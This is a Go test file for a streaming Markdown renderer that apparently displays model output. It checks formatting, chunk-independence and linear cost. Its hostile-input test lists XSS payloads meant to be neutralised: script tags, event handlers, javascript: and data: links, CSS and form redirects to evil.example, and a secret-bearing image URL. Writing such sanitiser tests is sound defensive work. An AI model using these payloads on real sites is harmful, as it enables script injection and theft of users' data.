package static_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"testing"
)

// rendererPage holds the Markdown renderer alone, with what the tests ask of it.
func rendererPage(t *testing.T) http.Handler {
	t.Helper()
	var sources string
	for _, name := range []string{"widget/inline.js", "widget/markdown.js"} {
		text, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		sources += string(text)
	}
	return page(`<!doctype html><title>renderer</title><body><script>` + sources + `
		const render = (...parts) => {
			const root = document.createElement('div');
			const md = new Markdown(root, 'Copy');
			for (const part of parts) md.push(part);
			md.end();
			return root;
		};
		// Every way of cutting s in two, and one character at a time: the result must not depend on it.
		const splits = (s) => {
			const whole = render(s).innerHTML;
			const chars = render(...s).innerHTML;
			if (chars !== whole) return 'by character: ' + chars + ' whole: ' + whole;
			for (let i = 1; i < s.length; i++) {
				const cut = render(s.slice(0, i), s.slice(i)).innerHTML;
				if (cut !== whole) return 'cut at ' + i + ': ' + cut + ' whole: ' + whole;
			}
			return '';
		};
	</script>`)
}

func literal(s string) string {
	b, _ := json.Marshal(s) // a string always has a JSON form
	return string(b)
}

const link = `<a href="%s" target="_blank" rel="noopener">%s</a>`

func a(href, text string) string { return fmt.Sprintf(link, href, text) }

func task(label string, done bool) string {
	checked := ""
	if done {
		checked = ` checked=""`
	}
	return `<input type="checkbox" disabled=""` + checked + ` aria-label="` + label + `">`
}

func code(language, text string) string {
	return `<figure dir="ltr"><figcaption><span>` + language + `</span><button class="copy">Copy</button></figcaption>` +
		`<pre tabindex="0"><code><span>` + text + `</span></code></pre></figure>`
}

var markdownCases = []struct{ name, in, want string }{
	{"paragraphs", "one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"},
	{"emphasis", "**bold** *it* ***both*** ~~gone~~ _it_ __bold__", "<p><strong>bold</strong> <em>it</em> <strong><em>both</em></strong> <del>gone</del> <em>it</em> <strong>bold</strong></p>"},
	{"nested emphasis", "**bold *and it***", "<p><strong>bold <em>and it</em></strong></p>"},
	{"not emphasis", "2 * 3 * 4, snake_case_name, ~5, a ** b", "<p>2 * 3 * 4, snake_case_name, ~5, a ** b</p>"},
	{"half-open emphasis", "**never closed\n\n*nor this", "<p>**never closed</p><p>*nor this</p>"},
	{"opened at once, closed apart", "***a** b* and ***c* d** ***e **f** g*", "<p><em><strong>a</strong> b</em> and <strong><em>c</em> d</strong> **<em>e <strong>f</strong> g</em></p>"},
	{"crossed emphasis", "**a *b** c*", "<p><strong>a *b</strong> c*</p>"},
	{"CJK emphasis", "这是**重点。**对", "<p>这是<strong>重点。</strong>对</p>"},
	{"code span", "`a*b*` and ``x ` y``", "<p><code>a*b*</code> and <code>x ` y</code></p>"},
	{"half-open code span", "it's `x", "<p>it's `x</p>"},
	{"escapes", `\*not\* \_it\_ \# C:\dir`, "<p>*not* _it_ # C:\\dir</p>"},
	{"headings", "# One\n### Three\n## Two\n#hash", `<h3 class="h1">One</h3><h4 class="h3">Three</h4><h4 class="h2">Two</h4><p>#hash</p>`},
	{"rule", "a\n\n---\n* * *\n", "<p>a</p><hr><hr>"},
	{"list", "- a\n- b **c**\n\n- d", "<ul><li><p>a</p></li><li><p>b <strong>c</strong></p></li><li><p>d</p></li></ul>"},
	{"nested list", "1. a\n   - b\n   - c\n2. d", "<ol><li><p>a</p><ul><li><p>b</p></li><li><p>c</p></li></ul></li><li><p>d</p></li></ol>"},
	{"nested as models write it", "1. a\n  - b\n    - c\n10. d", "<ol><li><p>a</p><ul><li><p>b</p><ul><li><p>c</p></li></ul></li></ul></li><li><p>d</p></li></ol>"},
	{"list that starts later", "3. c\n4. d", `<ol start="3"><li><p>c</p></li><li><p>d</p></li></ol>`},
	{"list ends", "- a\n\ntext", "<ul><li><p>a</p></li></ul><p>text</p>"},
	{"two lists", "- a\n1. b", "<ul><li><p>a</p></li></ul><ol><li><p>b</p></li></ol>"},
	{"not a list", "1986. a year\n-5 degrees\nthe year\n1986. again", `<ol start="1986"><li><p>a year<br>-5 degrees<br>the year</p></li><li><p>again</p></li></ol>`},
	{"quote", "> a\n> > b\n>\n> c\n\nd", "<blockquote><p>a</p><blockquote><p>b</p></blockquote><p>c</p></blockquote><p>d</p>"},
	{"quote goes on lazily", "> a\nb", "<blockquote><p>a<br>b</p></blockquote>"},
	{"fence", "```go\nif a < b {\n\treturn `x`\n}\n```\nafter", code("go", "if a &lt; b {\n\treturn `x`\n}") + "<p>after</p>"},
	{"fence in a list", "- a\n  ```\n  x\n    y\n  ```\n- b", "<ul><li><p>a</p>" + code("", "x\n  y") + "</li><li><p>b</p></li></ul>"},
	{"tildes around backticks", "~~~md\n```\n~~~", code("md", "```")},
	{"half-open fence", "```js\nlet a = 1;\n\n// end", code("js", "let a = 1;\n\n// end")},
	{"inline fence", "```not a fence``` here", "<p><code>not a fence</code> here</p>"},
	{"table", "| a | **b** |\n|:-:|--:|\n| 1 \\| 2 | `x` |\n| only |\nend", `<div class="table" tabindex="0"><table><thead><tr><th class="center">a</th><th class="end"><strong>b</strong></th></tr></thead><tbody><tr><td class="center">1 | 2</td><td class="end"><code>x</code></td></tr><tr><td class="center">only</td><td class="end"></td></tr></tbody></table></div><p>end</p>`},
	{"not a table", "| a | b |\ntext", "<p>| a | b |<br>text</p>"},
	{"half a table", "| a | b |\n|--", "<p>| a | b |</p><p>|--</p>"},
	{"break in a cell", "| a |\n|---|\n| x<br>y |", `<div class="table" tabindex="0"><table><thead><tr><th class="">a</th></tr></thead><tbody><tr><td class="">x<br>y</td></tr></tbody></table></div>`},
	{"links", "[a **b**](https://x.example/p_(q)?r=1) [m](mailto:a@b.example)", "<p>" + a("https://x.example/p_(q)?r=1", "a <strong>b</strong>") + " " + a("mailto:a@b.example", "m") + "</p>"},
	{"link with a title", `[a](https://x.example "title").`, "<p>" + a("https://x.example", "a") + ".</p>"},
	{"bare links", "see https://x.example/a_b. (https://y.example/z) **https://z.example**", "<p>see " + a("https://x.example/a_b", "https://x.example/a_b") + ". (" + a("https://y.example/z", "https://y.example/z") + ") <strong>" + a("https://z.example", "https://z.example") + "</strong></p>"},
	{"half-open link", "[a](https://x.example/never", "<p>[a](" + a("https://x.example/never", "https://x.example/never") + "</p>"},
	{"brackets", "[1] and [x] (y) ![", "<p>[1] and [x] (y) ![</p>"},
	{"image", "![alt](https://x.example/i.png)", "<p>" + a("https://x.example/i.png", "alt") + "</p>"},
	{"carriage returns", "a\r\nb\r\n\r\n- c\r\n", "<p>a<br>b</p><ul><li><p>c</p></li></ul>"},
	{"astral and RTL", "😀 **مرحبا** 𝒳", "<p>😀 <strong>مرحبا</strong> 𝒳</p>"},
	{"address before a full-width comma", "看 https://example.com/guide，谢谢", "<p>看 " + a("https://example.com/guide", "https://example.com/guide") + "，谢谢</p>"},
	{"address before a mark of direction", "https://example.com/a\u200f \u2066https://example.com/b\u2069", "<p>" + a("https://example.com/a", "https://example.com/a") + "\u200f \u2066" + a("https://example.com/b", "https://example.com/b") + "\u2069</p>"},
	{"address in full-width brackets", "（https://example.com/a）。", "<p>（" + a("https://example.com/a", "https://example.com/a") + "）。</p>"},
	{"address before an Arabic comma", "https://example.com/a، ثم", "<p>" + a("https://example.com/a", "https://example.com/a") + "، ثم</p>"},
	{"address before a danda and quotes", "https://example.com/a। “https://example.com/b” «https://example.com/c»", "<p>" + a("https://example.com/a", "https://example.com/a") + "। “" + a("https://example.com/b", "https://example.com/b") + "” «" + a("https://example.com/c", "https://example.com/c") + "»</p>"},
	{"address with other scripts", "https://ja.wikipedia.org/wiki/日本 と https://ja.wikipedia.org/wiki/レオナルド・ダ・ヴィンチ", "<p>" + a("https://ja.wikipedia.org/wiki/日本", "https://ja.wikipedia.org/wiki/日本") + " と " + a("https://ja.wikipedia.org/wiki/レオナルド・ダ・ヴィンチ", "https://ja.wikipedia.org/wiki/レオナルド・ダ・ヴィンチ") + "</p>"},
	{"address behind a script without spaces", "请看https://example.com/a。", "<p>请看" + a("https://example.com/a", "https://example.com/a") + "。</p>"},
	{"pipe in code in a table", "| a |\n|---|\n| `x \\| y` |", `<div class="table" tabindex="0"><table><thead><tr><th class="">a</th></tr></thead><tbody><tr><td class=""><code>x | y</code></td></tr></tbody></table></div>`},
	{"formulas", `a \(x \in \{1\}\) b \[ a_1 * b_2 * c \] $a_1$ and $$x*y*z$$`, `<p>a \(x \in \{1\}\) b \[ a_1 * b_2 * c \] $a_1$ and $$x*y*z$$</p>`},
	{"no formulas", `costs $5 or *$6*, $HOME and \(half, \[not\*`, `<p>costs $5 or <em>$6</em>, $HOME and (half, [not*</p>`},
	{"formula of several lines", "so:\n\\[\n- x_1 \\\\ y_1\n\\{z\\}\n\\]\n*end*", "<p>so:<br>\\[<br>- x_1 \\\\ y_1<br>\\{z\\}<br>\\]<br><em>end</em></p>"},
	{"formula in dollars", "$$\na_1 * b\n$$\n\n*end*", "<p>$$<br>a_1 * b<br>$$</p><p><em>end</em></p>"},
	{"task list", "- [x] done\n- [ ] *open*\n- [X] again\n- [y] no\n- [x]no", `<ul><li><p>` + task("[x]", true) + `done</p></li><li><p>` + task("[ ]", false) + `<em>open</em></p></li><li><p>` + task("[X]", true) + `again</p></li><li><p>[y] no</p></li><li><p>[x]no</p></li></ul>`},
	{"address in angle brackets", "<https://x.example/a_b> <mailto:a@b.example> <br> <b> <https:x>", "<p>" + a("https://x.example/a_b", "https://x.example/a_b") + " " + a("mailto:a@b.example", "mailto:a@b.example") + " <br> &lt;b&gt; &lt;https:x&gt;</p>"},
	{"spaces in a code span", "`` `a` `` ` b` `  `", "<p><code>`a`</code> <code> b</code> <code>  </code></p>"},
	{"nothing", "", ""},
	{"only marks", "**", "<p>**</p>"},
	{"a number alone", "42", "<p>42</p>"},
}

func TestMarkdown(t *testing.T) {
	h := newFakeHub(t)
	h.serve("/renderer", rendererPage(t))
	p := newTab(t)
	p.Open(h.URL + "/renderer")
	for _, c := range markdownCases {
		t.Run(c.name, func(t *testing.T) {
			if got := eval[string](p, "render("+literal(c.in)+").innerHTML"); got != c.want {
				t.Errorf("%q\n got %s\nwant %s", c.in, got, c.want)
			}
			if got := eval[string](p, "splits("+literal(c.in)+")"); got != "" {
				t.Errorf("%q depends on where it is cut: %s", c.in, got)
			}
		})
	}
}

// hostile is what a model may be made to write. Nothing of it may become more
// than text, safe elements and links to http, https and mailto.
var hostile = []string{
	`<script>hacked()</script>`,
	`<img src=x onerror=hacked()>`,
	`<svg/onload=hacked()><iframe srcdoc="<script>parent.hacked()</script>">`,
	`<br onload=hacked()><br/ onclick=hacked()>`,
	`[x](javascript:hacked())`,
	`[x](JaVaScRiPt:hacked())`,
	"[x](java\tscript:hacked())",
	"[x](\x01javascript:hacked())",
	`[x](&#106;avascript:hacked())`,
	`[x](data:text/html,<script>hacked()</script>)`,
	`[x](vbscript:hacked())`,
	`[x](//evil.example)`,
	`[x](https:javascript:hacked())`,
	`[x](<javascript:hacked()>)`,
	`![x](javascript:hacked())`,
	`![x](https://evil.example/?secret=1 "onerror=hacked()")`,
	`[x](https://a.example" onclick="hacked())`,
	`[<img src=x onerror=hacked()>](https://a.example)`,
	`<javascript:hacked()>`,
	`https://a.example/"onmouseover="hacked()`,
	"```\"><img src=x onerror=hacked()>\n<script>hacked()</script>\n```",
	"| <img src=x onerror=hacked()> |\n|---|\n| [x](javascript:hacked()) |",
	`# <img src=x onerror=hacked()>`,
	`- [ ] <input autofocus onfocus=hacked()>`,
	`<style>@import 'https://evil.example'</style><link rel=stylesheet href=//evil.example>`,
	`<form action=https://evil.example><button>`,
	`<base href=https://evil.example><meta http-equiv=refresh content="0;url=javascript:hacked()">`,
	"`<script>hacked()</script>`",
	`**<b onclick=hacked()>**`,
	`</div></section><script>hacked()</script>`,
	`{{constructor.constructor('hacked()')()}}`,
	"\u202e\u0000\ufeff<script>hacked()</script>",
}

func TestHostileMarkdown(t *testing.T) {
	h := newFakeHub(t)
	h.serve("/renderer", rendererPage(t))
	p := newTab(t)
	p.Open(h.URL + "/renderer")
	p.Do(`window.bad = ''; window.hacked = () => { bad += 'executed ' };
		const tags = new Set('P BR INPUT STRONG EM DEL CODE SPAN A H3 H4 H5 H6 UL OL LI BLOCKQUOTE HR FIGURE FIGCAPTION BUTTON PRE DIV TABLE THEAD TBODY TR TH TD'.split(' '));
		const attributes = new Set('class dir tabindex href target rel start type disabled aria-label'.split(' '));
		window.inspect = (root) => {
			document.body.append(root);
			for (const el of root.querySelectorAll('*')) {
				if (!tags.has(el.tagName)) bad += el.tagName + ' ';
				for (const { name } of el.attributes) if (!attributes.has(name)) bad += name + ' ';
				if (el.tagName === 'A' && (!['http:', 'https:', 'mailto:'].includes(el.protocol) || el.rel !== 'noopener')) bad += el.outerHTML;
				el.click?.call(el.tagName === 'A' ? document.createElement('i') : el);
			}
			root.remove();
		}`)
	for _, attack := range hostile {
		bad := eval[string](p, `(async () => {
			const s = `+literal(attack)+`;
			window.bad = '';
			for (let i = 0; i <= s.length; i++) {
				inspect(render(s.slice(0, i)));
				inspect(render(s.slice(0, i), s.slice(i)));
			}
			inspect(render(...s));
			await new Promise(requestAnimationFrame);
			return bad;
		})()`)
		if bad != "" {
			t.Errorf("%q became %s", attack, bad)
		}
	}
	// Not a word of the attack is lost either.
	for _, attack := range hostile[:3] {
		if got := eval[string](p, "render("+literal(attack)+").textContent"); got != attack {
			t.Errorf("%q is shown as %q", attack, got)
		}
	}
}

// What must not take long, whatever a model writes: work may grow with the
// text, not with its square. Counted in calls of the DOM, not in time.
func TestMarkdownWork(t *testing.T) {
	h := newFakeHub(t)
	h.serve("/renderer", rendererPage(t))
	p := newTab(t)
	p.Open(h.URL + "/renderer")
	p.Do(`window.work = (unit, times) => {
		let calls = 0;
		const spied = [[Element.prototype, 'append'], [Element.prototype, 'replaceWith'], [CharacterData.prototype, 'appendData']];
		const saved = spied.map(([o, name]) => o[name]);
		spied.forEach(([o, name], i) => { o[name] = function (...args) { calls += 1 + args.length; return saved[i].apply(this, args) } });
		render(...Array(times).fill(unit));
		spied.forEach(([o, name], i) => { o[name] = saved[i] });
		return calls;
	}`)
	for _, unit := range []string{"word ", "**", "*a ", "[", "](", "`", "> ", "- ", "1. ", "| a ", "\n", "    ", "```\n", "~", "<", "https://", "\\", "#", "***a** _b", "![x](https://a.example) "} {
		small, large := eval[int](p, "work("+literal(unit)+", 500)"), eval[int](p, "work("+literal(unit)+", 5000)")
		if large > 12*small+200 {
			t.Errorf("%q: %d calls for 500, %d for 5000", unit, small, large)
		}
	}
}
